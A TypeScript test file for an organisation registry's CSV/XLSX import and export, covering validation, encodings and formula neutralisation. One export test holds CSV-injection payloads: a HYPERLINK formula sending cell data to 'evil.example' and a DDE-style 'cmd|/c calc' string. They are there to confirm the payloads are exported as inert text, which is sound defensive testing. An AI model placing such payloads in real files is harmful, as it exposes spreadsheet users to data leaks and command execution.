import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { count, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { createTestDb, type TestDatabase } from '../helpers/db';
import { organisations } from '../../src/db/schema/registry';
import { organisationHistory } from '../../src/db/schema/campaigns';
import { auditLog } from '../../src/db/schema/audit';
import { importOrganisations, MAX_IMPORT_BYTES, type ImportReport } from '../../src/registry/import.server';
import { exportOrganisations, importTemplate, neutraliseCell } from '../../src/registry/export.server';
import { actor, cp1251, csv, HEADER, municipality, org, utf8, utf8Bom, xlsx } from './fixtures';

let t: TestDatabase;
let territoryId: string;
let otherTerritoryId: string;

async function orgCount() {
  const [r] = await t.db.select({ n: count() }).from(organisations);
  return r!.n;
}
function failed(r: ImportReport) {
  if (r.ok) throw new Error('expected a refusal, got ' + JSON.stringify(r));
  return r;
}
const run = (bytes: Uint8Array, fileName = 'orgs.csv', tid = territoryId) =>
  importOrganisations(t.db, { territoryId: tid, bytes, fileName, actor });

beforeAll(async () => {
  t = await createTestDb();
  territoryId = (await municipality(t.db)).municipality.id;
  otherTerritoryId = (await municipality(t.db, 'Соседний район')).municipality.id;
});
afterAll(async () => t?.close());

describe('import: all or nothing', () => {
  it('loads a clean file', async () => {
    const r = await run(utf8(csv([org(1), org(2), org(3, { Тип: 'ДОО' })])));
    expect(r).toMatchObject({ ok: true, created: 3, updated: 0 });
    expect(await orgCount()).toBe(3);
  });

  it.each([
    [
      'duplicate ИНН',
      () => [org(10), org(11, { ИНН: org(10)[3]! })],
      { line: 3, column: 'ИНН', re: /повторяется.*строке 2/ },
    ],
    [
      'wrong ИНН checksum',
      () => [org(10), org(11, { ИНН: '7707083894' })],
      { line: 3, column: 'ИНН', re: /контрольной/ },
    ],
    [
      'wrong ОГРН checksum',
      () => [org(10, { ОГРН: '1027700132194' }), org(11)],
      { line: 2, column: 'ОГРН', re: /контрольной/ },
    ],
    [
      'unknown type',
      () => [org(10), org(11, { Тип: 'университет' })],
      { line: 3, column: 'Тип', re: /неизвестный тип «университет»/ },
    ],
    [
      'empty full name',
      () => [org(10, { 'Полное наименование': '   ' }), org(11)],
      { line: 2, column: 'Полное наименование', re: /не заполнено/ },
    ],
    [
      'empty short name',
      () => [org(10), org(11, { 'Краткое наименование': '' })],
      { line: 3, column: 'Краткое наименование', re: /не заполнено/ },
    ],
  ])('a file with %s changes nothing and names line and column', async (_name, rows, expected) => {
    const before = await orgCount();
    const [auditBefore] = await t.db.select({ n: count() }).from(auditLog);
    const r = failed(await run(utf8(csv(rows()))));
    expect(r.message).toMatch(/не загружен.*не изменён/);
    const issue = r.issues.find((i) => i.line === expected.line && i.column === expected.column);
    expect(issue?.message).toMatch(expected.re);
    expect(await orgCount()).toBe(before);
    const [auditAfter] = await t.db.select({ n: count() }).from(auditLog);
    expect(auditAfter!.n).toBe(auditBefore!.n);
  });

  it('reports every bad row, not just the first', async () => {
    const r = failed(await run(utf8(csv([org(20, { Тип: 'x' }), org(21), org(22, { ИНН: '123' })]))));
    expect(r.issues.map((i) => i.line)).toEqual([2, 4]);
  });

  it('refuses a 20 MB file before parsing it', async () => {
    const big = new Uint8Array(20 * 1024 * 1024).fill(0x41);
    const r = failed(await run(big));
    expect(r.message).toMatch(/слишком большой: 20,0 МБ при допустимых 10 МБ/);
    expect(big.length).toBeGreaterThan(MAX_IMPORT_BYTES);
  });

  it('refuses a binary file renamed .csv', async () => {
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
    expect(failed(await run(png)).message).toMatch(/не текст, а PNG/);
    const xlsxAsCsv = await xlsx([org(30)]);
    expect(failed(await run(xlsxAsCsv)).message).toMatch(/не текст/);
    const random = new Uint8Array(4096).map((_, i) => (i * 7919) % 256);
    expect(failed(await run(random)).message).toMatch(/двоичные данные/);
  });

  it('refuses a text file renamed .xlsx and an unknown extension', async () => {
    expect(failed(await run(utf8(csv([org(31)])), 'orgs.xlsx')).message).toMatch(/не является книгой Excel/);
    expect(failed(await run(utf8(csv([org(31)])), 'orgs.doc')).message).toMatch(/Неподдерживаемый/);
  });

  it('refuses unknown columns and missing required ones', async () => {
    const text = ['Название;ИНН', 'Школа;7707083893'].join('\n');
    const r = failed(await run(utf8(text)));
    expect(r.issues.some((i) => /неизвестный столбец «Название»/.test(i.message))).toBe(true);
    expect(r.issues.some((i) => /нет обязательного столбца «Тип»/.test(i.message))).toBe(true);
  });

  it('refuses an organisation registered in another territory', async () => {
    const before = await orgCount();
    const r = failed(await run(utf8(csv([org(40), org(1)])), 'orgs.csv', otherTerritoryId));
    expect(r.issues[0]).toMatchObject({ line: 3, column: 'ИНН' });
    expect(r.issues[0]!.message).toMatch(/другой территории/);
    expect(await orgCount()).toBe(before);
  });
});

describe('import: what offices produce', () => {
  it('reads Windows-1251 with semicolons and dd.mm.yyyy dates', async () => {
    const r = await run(cp1251(csv([org(50, { 'Дата последней оценки': '15.03.2022' })])));
    expect(r).toMatchObject({ ok: true, created: 1, encoding: 'Windows-1251' });
    const [o] = await t.db
      .select()
      .from(organisations)
      .where(eq(organisations.inn, org(50)[3]!));
    expect(o?.fullName).toContain('«Школа № 50»');
    expect(o?.lastAssessedOn).toBe('2022-03-15');
  });

  it('reads UTF-8 with BOM and commas', async () => {
    const r = await run(utf8Bom(csv([org(51, { Адрес: 'г. Примерск, ул. Ленина, 5' })], ',')));
    expect(r).toMatchObject({ ok: true, created: 1, encoding: 'UTF-8 (BOM)' });
    const [o] = await t.db
      .select()
      .from(organisations)
      .where(eq(organisations.inn, org(51)[3]!));
    expect(o?.address).toBe('г. Примерск, ул. Ленина, 5');
  });

  it('reads XLSX with Excel serial dates, date cells and numeric ИНН', async () => {
    const a = org(52);
    const b = org(53);
    const rowA: (string | number | Date)[] = [...a];
    rowA[3] = Number(a[3]);
    rowA[12] = 44635; // 15.03.2022 as an Excel serial
    const rowB: (string | number | Date)[] = [...b];
    rowB[12] = new Date(Date.UTC(2021, 9, 1));
    const r = await run(await xlsx([rowA, rowB]), 'Реестр.xlsx');
    expect(r).toMatchObject({ ok: true, created: 2, format: 'xlsx' });
    const rows = await t.db.select().from(organisations).where(eq(organisations.inn, a[3]!));
    expect(rows[0]?.lastAssessedOn).toBe('2022-03-15');
    const [ob] = await t.db.select().from(organisations).where(eq(organisations.inn, b[3]!));
    expect(ob?.lastAssessedOn).toBe('2021-10-01');
  });

  it('reports the right line numbers in XLSX', async () => {
    const r = failed(await run(await xlsx([org(60), org(61, { Тип: 'ВУЗ' })]), 'a.xlsx'));
    expect(r.issues[0]).toMatchObject({ line: 3, column: 'Тип' });
  });
});

describe('re-import and history', () => {
  it('updates by ИНН instead of duplicating, and records the change', async () => {
    const before = await orgCount();
    const r = await run(utf8(csv([org(1, { Руководитель: 'Петров П. П.' }), org(2)])));
    expect(r).toMatchObject({ ok: true, created: 0, updated: 1, unchanged: 1 });
    expect(await orgCount()).toBe(before);
    const [o] = await t.db
      .select()
      .from(organisations)
      .where(eq(organisations.inn, org(1)[3]!));
    const history = await t.db.select().from(organisationHistory).where(eq(organisationHistory.organisationId, o!.id));
    expect(history).toHaveLength(2);
    const update = [...history].sort((a, b) => a.id - b.id)[1];
    expect(update?.changes).toEqual({ headName: { from: 'Иванова И. И.', to: 'Петров П. П.' } });
    expect(update?.source).toBe('import');
    const audit = await t.db.select().from(auditLog).where(eq(auditLog.entityId, o!.id));
    expect(audit.map((a) => a.action).sort()).toEqual(['organisation.create', 'organisation.update']);
    expect(audit.map((a) => a.territoryId)).toEqual([o!.territoryId, o!.territoryId]);
  });
});

describe('export', () => {
  it('neutralises formula-like cells', () => {
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell('+7 900')).toBe("'+7 900");
    expect(neutraliseCell('-2')).toBe("'-2");
    expect(neutraliseCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseCell('\t=cmd')).toBe("'\t=cmd");
    expect(neutraliseCell('Школа № 1')).toBe('Школа № 1');
  });

  it('round-trips a CSV injection payload: stored as text, exported neutralised, re-imported unchanged', async () => {
    const payload = '=HYPERLINK("http://evil.example/?x="&A1;"Нажмите")';
    const r = await run(utf8(csv([org(70, { Руководитель: payload, Учредитель: '@SUM(1+1)*cmd|/c calc' })])));
    expect(r.ok).toBe(true);
    const csvOut = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
      await exportOrganisations(t.db, 'csv', [territoryId]),
    );
    expect(csvOut.startsWith('\uFEFF')).toBe(true);
    expect(csvOut).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Нажмите"")"`);
    expect(csvOut).toContain("'@SUM(1+1)*cmd|/c calc");
    for (const line of csvOut.split('\r\n')) for (const cell of line.split(';')) expect(cell).not.toMatch(/^[=+@]/);

    const xlsxOut = await exportOrganisations(t.db, 'xlsx', [territoryId]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(xlsxOut) as never);
    const values: unknown[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => values.push(c.value)));
    expect(values).toContain(`'${payload}`);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);

    // An exported file (with its extra «Территория» column removed) re-imports without changes.
    const lines = csvOut.replace('\uFEFF', '').trim().split('\r\n');
    const stripped = lines.map((l) => l.replace(/^[^;]*;/, '')).join('\r\n');
    const again = await run(utf8(stripped));
    expect(again).toMatchObject({ ok: true, created: 0, updated: 0 });
  });

  it('serves a template that imports (its example row) cleanly', async () => {
    const tpl = await importTemplate('xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(tpl) as never);
    const header: string[] = [];
    wb.worksheets[0]!.getRow(1).eachCell((c) => header.push(String(c.value)));
    expect(header).toEqual(HEADER);
    const csvTpl = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await importTemplate('csv'));
    expect(csvTpl.split('\r\n')[0]).toBe('\uFEFF' + HEADER.join(';'));
    const fresh = (await municipality(t.db, 'Шаблонный район')).municipality.id;
    expect(await run(tpl, 'template.xlsx', fresh)).toMatchObject({ ok: true, created: 1 });
  });
});
